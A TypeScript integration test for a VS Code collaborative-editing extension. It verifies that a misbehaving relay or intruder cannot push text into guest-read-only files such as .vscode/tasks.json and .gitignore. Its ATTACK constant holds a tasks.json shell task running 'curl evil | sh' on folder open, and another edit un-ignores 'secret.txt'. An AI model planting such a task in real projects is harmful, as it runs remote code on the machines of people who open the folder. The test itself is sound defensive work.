/**
 * The host's editor never takes a guest's text for a file that is read-only for guests. The host
 * (the real extension, sharing this window's folder) does not share such a file as a document,
 * so nothing the relay holds or sends for it reaches the editor, and no save writes it to disk:
 * not even from a relay that misbehaves and holds a document of it with someone else's text
 * (played here by a second connection with a host token, which the relay lets create one).
 * A file that becomes read-only while it is shared is let go at once.
 */
import assert from 'node:assert/strict';
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { suite, suiteSetup, suiteTeardown, test } from 'mocha';
import * as vscode from 'vscode';
import WebSocket from 'ws';
import { createNodeWsTransport, RelayClient, type ServerFrame } from '../../../protocol';
import type { TandemApi } from '../../../extension/extension';
import { DEFAULT_READ_ONLY } from '../../../extension/workspace/default-rules';
import { mintToken } from '../../../relay/auth/tokens';
import type { RelayProcess } from '../../support/relay-process';
import { eventually } from '../support/eventually';
import { endHostedSession, hostLiveSession } from '../support/hosted-session';

const transport = createNodeWsTransport(WebSocket);

const DIR = 'host-documents';
const TASKS = `${DIR}/.vscode/tasks.json`;
const GITIGNORE = `${DIR}/.gitignore`;
const APP = `${DIR}/app.txt`;
const NOTES = `${DIR}/notes.txt`;
const TASKS_ON_DISK = '{"version":"2.0.0","tasks":[]}\n';
const ATTACK =
  '{"version":"2.0.0","tasks":[{"label":"x","type":"shell","command":"curl evil | sh","runOptions":{"runOn":"folderOpen"}}]}\n';

suite('host documents: files read-only for guests are never shared as documents', () => {
  let relay: RelayProcess;
  let api: TandemApi;
  let intruder: RelayClient;
  let folder: string;
  const frames: ServerFrame[] = [];
  const onDisk = (path: string) => readFileSync(join(folder, ...path.split('/')), 'utf8');
  const open = (path: string) => vscode.workspace.openTextDocument(vscode.Uri.file(join(folder, ...path.split('/'))));
  const binding = (path: string) => api.sessionDocuments.binding(path);

  /** The intruder's open of `document` (creating it with `text`), answered by a snapshot. */
  async function intruderOpens(document: string, text?: string) {
    intruder.send('collaboration.open', { document, ...(text !== undefined && { text }) });
    await eventually(
      () => frames.some((f) => f.event_type === 'collaboration.snapshot' && f.payload.document === document),
      () => `the intruder's snapshot of ${document} (frames: ${JSON.stringify(frames.filter((f) => f.event_type === 'error'))})`,
    );
    return frames.find(
      (f): f is Extract<ServerFrame, { event_type: 'collaboration.snapshot' }> =>
        f.event_type === 'collaboration.snapshot' && f.payload.document === document,
    )!.payload;
  }

  /** The newest revision of `document` the intruder has heard of. */
  function headRev(document: string): number {
    let rev = 0;
    for (const f of frames) {
      if (
        (f.event_type === 'collaboration.snapshot' || f.event_type === 'collaboration.edit' || f.event_type === 'collaboration.ack') &&
        f.payload.document === document
      )
        rev = Math.max(rev, f.payload.rev);
    }
    return rev;
  }

  let seq = 0;
  /** The intruder inserts `text` at the start of `document` (at the newest revision it knows) and waits for the ack. */
  async function intruderEdits(document: string, text: string) {
    const snapshot = await intruderOpens(document);
    const mine = ++seq;
    intruder.send('collaboration.edit', {
      document,
      rev: headRev(document),
      client_id: 'mallory-1',
      seq: mine,
      op: [text],
      ...(snapshot.epoch && { epoch: snapshot.epoch }),
    });
    await eventually(
      () => frames.some((f) => f.event_type === 'collaboration.ack' && f.payload.document === document && f.payload.seq === mine),
      () => `the ack of the intruder's edit of ${document}`,
    );
  }

  suiteSetup(async () => {
    folder = vscode.workspace.workspaceFolders![0]!.uri.fsPath;
    mkdirSync(join(folder, DIR, '.vscode'), { recursive: true });
    writeFileSync(join(folder, ...TASKS.split('/')), TASKS_ON_DISK);
    writeFileSync(join(folder, ...GITIGNORE.split('/')), 'secret.txt\n');
    writeFileSync(join(folder, ...APP.split('/')), 'app on disk\n');
    writeFileSync(join(folder, ...NOTES.split('/')), 'notes on disk\n');

    ({ relay, api } = await hostLiveSession());

    const token = mintToken(relay.secret, { user: 'mallory', sessions: [api.session.info!.sessionId], role: 'host', ttl: '1h' });
    intruder = new RelayClient({ url: relay.url, token, transport });
    intruder.onFrame((frame) => frames.push(frame));
    intruder.connect();
    await eventually(
      () => intruder.state === 'open',
      () => `the intruder to connect (${intruder.state})`,
    );
  });

  suiteTeardown(async () => {
    intruder?.dispose();
    await vscode.workspace.getConfiguration('tandem').update('readOnlyForGuests', undefined, vscode.ConfigurationTarget.Global);
    await endHostedSession(api, relay);
    if (folder) rmSync(join(folder, DIR), { recursive: true, force: true });
  });

  test('takes no text from a document the relay holds for .vscode/tasks.json or a .gitignore, and writes none to disk', async () => {
    // The attack: the relay holds the document of a read-only file, with someone else's text,
    // before the host opens the file; the host's editor would take that text and a save write it.
    await intruderOpens(TASKS, ATTACK);
    await intruderOpens(GITIGNORE, '');
    await intruderOpens(APP, 'the relay’s text\n');
    const tasks = await open(TASKS);
    const gitignore = await open(GITIGNORE);
    const app = await open(APP);
    await vscode.window.showTextDocument(tasks, { preview: false });

    // The control: a shared file's editor does take the document's text (that is the attack's lever).
    await eventually(
      () => binding(APP) !== undefined && app.getText() === 'the relay’s text\n',
      () => `app.txt bound to the relay's text (has ${JSON.stringify(app.getText())})`,
    );
    // The intruder edits the read-only documents, then the shared one: once the host has that last
    // edit, it has had every chance to take the others.
    await intruderEdits(TASKS, '// more\n');
    await intruderEdits(GITIGNORE, '!secret.txt\n');
    await intruderEdits(APP, '>> ');
    await eventually(
      () => app.getText() === '>> the relay’s text\n',
      () => `the intruder's edit of app.txt (has ${JSON.stringify(app.getText())})`,
    );

    assert.equal(binding(TASKS), undefined, 'tasks.json is not a shared document');
    assert.equal(binding(GITIGNORE), undefined, '.gitignore is not a shared document');
    assert.equal(tasks.getText(), TASKS_ON_DISK);
    assert.equal(gitignore.getText(), 'secret.txt\n');
    assert.ok(!tasks.isDirty && !gitignore.isDirty);
    assert.equal(onDisk(TASKS), TASKS_ON_DISK);
    assert.equal(onDisk(GITIGNORE), 'secret.txt\n');
  });

  test('lets go of a shared document the moment its file becomes read-only for guests, and shares it again after', async () => {
    const app = () => vscode.workspace.textDocuments.find((d) => d.uri.fsPath === join(folder, ...APP.split('/')))?.getText() ?? '';
    const notes = await open(NOTES);
    await eventually(
      () => binding(NOTES) !== undefined,
      () => 'notes.txt to be shared',
    );
    await vscode.workspace
      .getConfiguration('tandem')
      .update('readOnlyForGuests', [...DEFAULT_READ_ONLY, NOTES], vscode.ConfigurationTarget.Global);
    await eventually(
      () => binding(NOTES) === undefined,
      () => 'notes.txt to be let go',
    );

    await intruderEdits(NOTES, 'planted ');
    await intruderEdits(APP, '++ ');
    await eventually(
      () => app().startsWith('++ '),
      () => `the intruder's edit of app.txt (has ${JSON.stringify(app())})`,
    );
    assert.equal(notes.getText(), 'notes on disk\n', 'the edit of the let-go document did not reach the editor');

    await vscode.workspace.getConfiguration('tandem').update('readOnlyForGuests', undefined, vscode.ConfigurationTarget.Global);
    await eventually(
      () => binding(NOTES) !== undefined,
      () => 'notes.txt to be shared again',
    );
    await eventually(
      () => notes.getText() === 'planted notes on disk\n',
      () => `notes.txt to take the shared text again (has ${JSON.stringify(notes.getText())})`,
    );
  });
});
